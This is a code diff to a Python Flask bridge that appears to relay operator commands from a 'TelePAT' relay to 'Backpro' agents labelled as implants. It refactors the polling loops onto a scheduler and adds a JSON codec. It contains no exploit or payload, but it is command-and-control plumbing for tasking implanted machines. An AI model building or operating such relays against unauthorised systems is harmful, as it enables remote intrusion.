@@ -8,6 +8,7 @@ import platform
 import os
 import uuid
 from flask import Flask, request, jsonify
+import jsoncodec
 
 
 RELAY_URL = "ws://192.168.230.133:8081/ws"
@@ -16,6 +17,7 @@ BACKPRO_URL = "http://127.0.0.1:5000"
 HTTP_PORT = 5001
 
 app = Flask(__name__)
+jsoncodec.init_app(app)
 
 class BridgeState:
     sdk = None
@@ -41,7 +43,7 @@ def forward_to_backpro(command, arguments="", backpro_agent_id=1):
             timeout=10
         )
         if r.status_code in (200, 201):
-            resp = r.json()
+            resp = jsoncodec.loads(r.content)
             backpro_cmd_id = resp.get("id") or resp.get("command_id")
             if backpro_cmd_id:
                 log(f"Command forwarded to Backpro agent {backpro_agent_id} (Backpro cmd ID: {backpro_cmd_id})")
@@ -84,53 +86,46 @@ def send_results_to_telepat():
     except Exception as e:
         log(f"Error sending results: {e}")
 
-def background_loop():
-    while True:
-        send_results_to_telepat()
-        time.sleep(8)
+def poll_commands():
+    if not (BridgeState.sdk.registered and BridgeState.sdk.connected):
+        return
 
-def command_polling_loop():
-    while True:
-        if BridgeState.sdk.registered and BridgeState.sdk.connected:
-            for telepat_agent_id in telepat_to_implant.keys():
-                cmd = BridgeState.sdk.request_commands(
-                    agent_id=telepat_agent_id,
-                    count=1,
-                    timeout=10
-                )
-                if cmd:
-                    telepat_cmd_id = cmd.get("command_id")
-                    command_text = cmd.get("input_data", {}).get("command", "").strip()
-                    arguments = cmd.get("input_data", {}).get("arguments", "")
-
-                    if not command_text:
-                        continue
-
-                    backpro_agent_id = telepat_to_implant[telepat_agent_id]
-
-                    log(f"Command for TelePAT agent {telepat_agent_id} (Backpro agent {backpro_agent_id}): {command_text}")
-
-                    try:
-                        payload = {
-                            "command_text": command_text,
-                            "arguments": arguments,
-                            "agent_id": backpro_agent_id
-                        }
-                        r = requests.post(f"{BACKPRO_URL}/api/admin/commands", json=payload, timeout=10)
-                        if r.status_code in (200, 201):
-                            resp = r.json()
-                            backpro_cmd_id = resp.get("id") or resp.get("command_id")
-                            if backpro_cmd_id:
-                                command_mapping[telepat_cmd_id] = backpro_cmd_id
-                                reverse_command_mapping[backpro_cmd_id] = telepat_cmd_id
-                                log(f"Mapped TelePAT cmd {telepat_cmd_id} <-> Backpro cmd {backpro_cmd_id}")
-                            log(f"Command forwarded to Backpro agent {backpro_agent_id}")
-                        else:
-                            log(f"Forward failed: {r.status_code}")
-                    except Exception as e:
-                        log(f"Error forwarding: {e}")
-
-        time.sleep(5)
+    for telepat_agent_id in telepat_to_implant.keys():
+        cmd = BridgeState.sdk.request_commands(
+            agent_id=telepat_agent_id,
+            count=1
+        )
+        if cmd:
+            telepat_cmd_id = cmd.get("command_id")
+            command_text = cmd.get("input_data", {}).get("command", "").strip()
+            arguments = cmd.get("input_data", {}).get("arguments", "")
+
+            if not command_text:
+                continue
+
+            backpro_agent_id = telepat_to_implant[telepat_agent_id]
+
+            log(f"Command for TelePAT agent {telepat_agent_id} (Backpro agent {backpro_agent_id}): {command_text}")
+
+            try:
+                payload = {
+                    "command_text": command_text,
+                    "arguments": arguments,
+                    "agent_id": backpro_agent_id
+                }
+                r = requests.post(f"{BACKPRO_URL}/api/admin/commands", json=payload, timeout=10)
+                if r.status_code in (200, 201):
+                    resp = jsoncodec.loads(r.content)
+                    backpro_cmd_id = resp.get("id") or resp.get("command_id")
+                    if backpro_cmd_id:
+                        command_mapping[telepat_cmd_id] = backpro_cmd_id
+                        reverse_command_mapping[backpro_cmd_id] = telepat_cmd_id
+                        log(f"Mapped TelePAT cmd {telepat_cmd_id} <-> Backpro cmd {backpro_cmd_id}")
+                    log(f"Command forwarded to Backpro agent {backpro_agent_id}")
+                else:
+                    log(f"Forward failed: {r.status_code}")
+            except Exception as e:
+                log(f"Error forwarding: {e}")
 
 def register_agents():
     global implant_mapping, telepat_to_implant
@@ -181,10 +176,11 @@ if __name__ == "__main__":
     register_agents()
     log("All agents registered")
 
-    threading.Thread(target=command_polling_loop, daemon=True).start()
+    # Both jobs block on HTTP/relay round trips, so they run on the scheduler's worker pool
+    BridgeState.sdk.scheduler.every(5, poll_commands, blocking=True, first_delay=0)
     log("Multi-agent command polling started")
 
-    threading.Thread(target=background_loop, daemon=True).start()
+    BridgeState.sdk.scheduler.every(8, send_results_to_telepat, blocking=True, first_delay=0)
 
     log("Multi-agent bridge fully active")
     while True: